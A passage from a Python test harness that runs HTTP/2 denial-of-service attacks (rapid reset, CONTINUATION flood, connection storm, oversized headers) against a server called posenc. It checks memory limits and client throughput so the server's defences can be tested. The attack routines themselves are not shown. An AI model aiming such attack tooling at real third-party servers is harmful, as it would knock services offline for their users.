                    help="flag for the started server (repeatable)")
    ap.add_argument("--server-nofile", type=int, default=65536)
    ap.add_argument("--storm-server-nofile", type=int, default=256)
    ap.add_argument("--attack", action="append", choices=ATTACKS)
    ap.add_argument("--seconds", type=float, default=10.0)
    ap.add_argument("--conns", type=int, help="connections, every attack")
    ap.add_argument("--min-streams", type=int, default=0,
                    help="rapid reset: go on past --seconds until this many "
                         "streams were sent (at most --max-seconds)")
    ap.add_argument("--min-connections", type=int, default=0,
                    help="invalid_headers_past_limit: run past --seconds "
                    "(up to --max-seconds) until this many connections")
    ap.add_argument("--min-bytes", type=int, default=0,
                    help="CONTINUATION flood: go on past --seconds until this "
                         "many bytes were sent (at most --max-seconds)")
    ap.add_argument("--max-seconds", type=float,
                    help="the cap of --min-streams and --min-bytes "
                         "(default: 4 x --seconds)")
    ap.add_argument("--procs", type=int, default=1,
                    help="attacker processes sharing the connections")
    ap.add_argument("--rr-cold-request", default="gettable",
                    choices=["gettable", "getrows", "none"])
    ap.add_argument("--victim-binary",
                    help="bench/client_load (default: next to the server "
                         "binary's build tree, or build/bench/client_load)")
    ap.add_argument("--no-victim", action="store_true")
    ap.add_argument("--recover-seconds", type=float, default=10.0)
    ap.add_argument("--max-rss-bytes", type=int)
    ap.add_argument("--abort-rss-bytes", type=int,
                    help="stop an attack once posenc's RSS passes this "
                         "(default: 4 GiB, or twice the --check bound)")
    ap.add_argument("--check", action="store_true",
                    help="exit 1 if the server dies, stops answering, or "
                         "passes the RSS bound")
    ap.add_argument("--min-victim-ratio", type=float,
                    help="with --check, also fail an attack whose victim "
                         "ratio is below this (bench/report.sh: 0.5)")
    ap.add_argument("--keep-logs", action="store_true",
                    help="keep the started servers' logs (else removed)")
    ap.add_argument("--json", help="write the results here")
    args = ap.parse_args()

    if not 0 < args.seconds <= MAX_SECONDS:
        ap.error(f"--seconds in (0, {MAX_SECONDS}]")
    if args.conns is not None and not 0 < args.conns <= MAX_CONNS:
        ap.error(f"--conns in [1, {MAX_CONNS}]")
    if args.max_seconds is None:
        args.max_seconds = 4 * args.seconds
    if not args.seconds <= args.max_seconds <= MAX_SECONDS:
        ap.error(f"--max-seconds in [--seconds, {MAX_SECONDS}]")
    if not (0 <= args.min_streams <= MAX_STREAMS_PER_ATTACK
            and 0 <= args.min_bytes <= MAX_BYTES_PER_ATTACK):
        ap.error("--min-streams or --min-bytes out of range")
    if not 1 <= args.procs <= 16:
        ap.error("--procs in [1, 16]")
    if not 0 < args.recover_seconds <= 120:
        ap.error("--recover-seconds in (0, 120]")
    if args.min_victim_ratio is not None and args.no_victim:
        ap.error("--min-victim-ratio needs the victim")
    if args.target:
        try:
            check_target(args.target)
        except ValueError as e:
            ap.error(str(e))
    attacks = args.attack or ATTACKS

    bound = args.max_rss_bytes
    if bound is None and args.server_binary:
        bound = (flag_value(args.server_arg, "cache_bytes",
                            SERVER_DEFAULT_CACHE_BYTES)
                 + flag_value(args.server_arg, "max_inflight_bytes",
                              SERVER_DEFAULT_INFLIGHT_BYTES) + RSS_MARGIN)
    if args.abort_rss_bytes is None:
        args.abort_rss_bytes = 4 * GiB if not (args.check and bound) else \
            min(4 * GiB, 2 * bound)

    if args.no_victim:
        args.victim_binary = None
    elif not args.victim_binary:
        here = os.path.dirname(os.path.abspath(__file__))
        guesses = [os.path.join(here, "..", "..", "build", "bench",
                                "client_load")]
        if args.server_binary:
            guesses.insert(0, os.path.join(os.path.dirname(os.path.abspath(
                args.server_binary)), "..", "bench", "client_load"))
        args.victim_binary = next((os.path.normpath(g) for g in guesses
                                   if os.access(g, os.X_OK)), None)
        if not args.victim_binary:
            print("h2_attacks: no bench/client_load found (give "
                  "--victim-binary or --no-victim); running without a victim",
                  file=sys.stderr)

    results = []
    log_dir = tempfile.mkdtemp(prefix="posenc-attacks.")
    failed = []
    for name in attacks:
        print(f"== {name} ({args.seconds:g} s)", file=sys.stderr, flush=True)
        server = None
        try:
            if args.server_binary:
                nofile = (args.storm_server_nofile
                          if name == "connection_storm"
                          else args.server_nofile)
                try:
                    server = Server(args.server_binary, args.server_arg,
                                    nofile, log_dir, name)
                except RuntimeError as e:
                    r = {"attack": name, "skipped": str(e)}
                else:
                    r = run_attack(name, args, f"127.0.0.1:{server.port}",
                                   server.pid, server.exit_text)
                    r["server_nofile"] = nofile
            else:
                r = run_attack(name, args, args.target, args.server_pid)
        finally:
            if server is not None:
                server.stop()
        if server is not None and not r.get("skipped"):
            lines, grpc_lines = server.log_lines()
            r["server_log"] = {"lines": lines, "grpc_lines": grpc_lines,
                               "server_seconds": round(server.lifetime, 2)}
        bad = verdicts(r, bound, args.min_victim_ratio)
        r["failed_checks"] = bad
        if bad:
            failed.append(name)
            if args.check and server is not None:
                print(f"-- {name}: server log tail --\n{server.tail(1500)}",
                      file=sys.stderr)
        print(f"   {name}: {r.get('answered', r.get('skipped'))}"
              + (f"; FAILED: {'; '.join(bad)}" if bad else ""),
              file=sys.stderr, flush=True)
        if server is not None and not args.keep_logs:
            os.remove(server.log_path)  # tens of MiB after a rapid reset
        results.append(r)
    if args.keep_logs:
        print(f"h2_attacks: server logs in {log_dir}", file=sys.stderr)
    else:
        shutil.rmtree(log_dir, ignore_errors=True)
    print_table(results, bound if args.check else None)
    if args.json:
        with open(args.json, "w") as f:
            json.dump({"target": args.target or "started per attack",
                       "server_binary": args.server_binary,
                       "server_args": args.server_arg,
                       "seconds": args.seconds, "rss_bound_bytes": bound,
                       "results": results}, f, indent=1)
    if args.check and failed:
        print(f"FAILED: {', '.join(failed)}", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
